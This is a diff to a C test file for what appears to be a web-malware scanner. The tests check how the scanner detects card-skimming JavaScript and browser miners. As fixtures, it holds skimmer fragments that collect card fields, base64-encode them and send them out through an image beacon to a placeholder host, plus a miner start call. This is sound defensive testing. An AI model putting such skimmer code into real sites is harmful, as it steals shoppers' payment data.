@@ -175,11 +175,28 @@ TEST(what_is_done_near_names_of_cards)
                                          "new Image().src = 'https://stats.example.net/?d=' + btoa(JSON.stringify(d)); });\n", NULL};
     look_apart(PIECES, 0);
     CHECK(lists(F_WEB_NEAR_CARDS, "card-fields") && lists(F_WEB_NEAR_CARDS, "sends-image") && lists(F_WEB_NEAR_CARDS, "encodes"));
-    look_apart(PIECES, 12 << 10);
+    look_apart(PIECES, 7 << 10);
     CHECK(lists(F_WEB_NEAR_CARDS, "sends-image"));
-    look_apart(PIECES, 20 << 10);
+    look_apart(PIECES, 24 << 10);
     CHECK(does("card-fields") && does("sends-image"));
     CHECK(lists(F_WEB_NEAR_CARDS, "card-fields") && !lists(F_WEB_NEAR_CARDS, "sends-image") && !lists(F_WEB_NEAR_CARDS, "encodes"));
+}
+
+TEST(what_stands_around_several_names_of_cards_does_not_add_up)
+{
+    static const char *const PIECES[] = {"x = ['cc_number', 'cc_cid'];\n", "new Image().src = 'https://stats.example.net/';\n", "x = 'cc_number';\n",
+                                         "y = btoa('a'); z = 'cc_cid'; document.addEventListener('submit', f);\n", NULL};
+    look_apart(PIECES, 12 << 10);
+    CHECK(does("sends-image") && does("encodes"));
+    CHECK(lists(F_WEB_NEAR_CARDS, "encodes") != lists(F_WEB_NEAR_CARDS, "sends-image"));
+}
+
+TEST(fields_that_a_recorder_leaves_out_are_no_cards)
+{
+    look("/srv/www/a.js", "if(['current-password','new-password','cc-number','cc-exp','cc-csc'].includes(e.getAttribute('autocomplete')))return;");
+    CHECK(!does("card-fields"));
+    look("/srv/www/a.js", "if(['cc-number','cc-exp','cc-csc'].includes(e.getAttribute('autocomplete')))take(e);");
+    CHECK(does("card-fields"));
 }
 
 TEST(a_variable_of_a_bundle_stands_for_what_it_was_given_near_there)
@@ -194,6 +211,8 @@ TEST(a_variable_of_a_bundle_stands_for_what_it_was_given_near_there)
 TEST(keys_of_miners_are_no_marks)
 {
     look("/srv/www/a.js", "return new tree.Anonymous(',', i), new(tree.Anonymous)(' ', i), new tree.Anonymous('', i);");
+    CHECK(!facts_has(&facts, F_WEB_MINERS));
+    look("/srv/www/a.js", "out.push(new x.Token('definition_list_open', 'dl', 1)); w.start();");
     CHECK(!facts_has(&facts, F_WEB_MINERS));
     look("/srv/www/a.js", "new Quiet.Anonymous('SITE-KEY').start();");
     CHECK(lists(F_WEB_MINERS, "Quiet.Anonymous"));
